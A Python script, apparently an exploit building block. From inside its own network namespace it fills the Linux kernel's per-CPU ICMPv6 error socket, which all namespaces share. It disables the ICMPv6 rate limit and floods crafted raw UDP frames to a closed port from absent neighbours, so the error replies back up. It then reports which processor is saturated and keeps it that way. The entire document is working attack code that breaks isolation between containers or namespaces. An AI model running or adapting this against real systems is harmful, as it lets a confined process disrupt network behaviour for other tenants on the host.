"""Fills the socket that the kernel has for ICMPv6 errors on one processor, which all namespaces share (icmpv6_init in
net/ipv6/icmp.c): port-unreachable messages wait for neighbours that never answer. In a network namespace of its own; prints
the processor once there is no room left, and keeps it so until its input ends.
"""

import os
import select
import socket
import struct
import subprocess
import sys

MACS = bytes.fromhex("020000000001020000000002")
HOST, NEIGHBOURS = "2001:db8:5::1", 50
SETUP = f"""
ip link add v0 address 02:00:00:00:00:01 type veth peer name v1
sysctl -q -w net.ipv6.conf.v1.disable_ipv6=1 net.ipv6.conf.v0.accept_dad=0 net.ipv6.icmp.ratelimit=0
ip link set v0 up
ip link set v1 up
ip -6 addr add {HOST}/64 dev v0 nodad
"""


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(number):
    """To a port on which nobody listens, from a neighbour that is not there."""
    ends = socket.inet_pton(socket.AF_INET6, f"2001:db8:5::{0x100 + number:x}") + socket.inet_pton(socket.AF_INET6, HOST)
    data = bytes(1200)
    length = 8 + len(data)
    header = struct.pack("!HHH", 1000, 9999, length)
    pseudo = ends + struct.pack("!II", length, 17)
    udp = header + struct.pack("!H", checksum(pseudo + header + bytes(2) + data)) + data
    return MACS + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, length, 17, 64) + ends + udp


def is_full():
    counters = dict(line.split() for line in open("/proc/self/net/snmp6"))
    return int(counters["Icmp6OutErrors"]) > 0


processor = min(os.sched_getaffinity(0))
os.sched_setaffinity(0, {processor})
subprocess.run(["sh", "-e", "-c", SETUP], check=True)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
wire.bind(("v1", 0))
frames = [datagram(number) for number in range(NEIGHBOURS)]
told = False
while not select.select([sys.stdin], [], [], 0.01)[0]:
    for frame in frames + frames:
        wire.send(frame)
    if not told and is_full():
        told = True
        print(processor, flush=True)
# What waits for them is gone with them.
subprocess.run(["ip", "link", "del", "v0"], check=True)
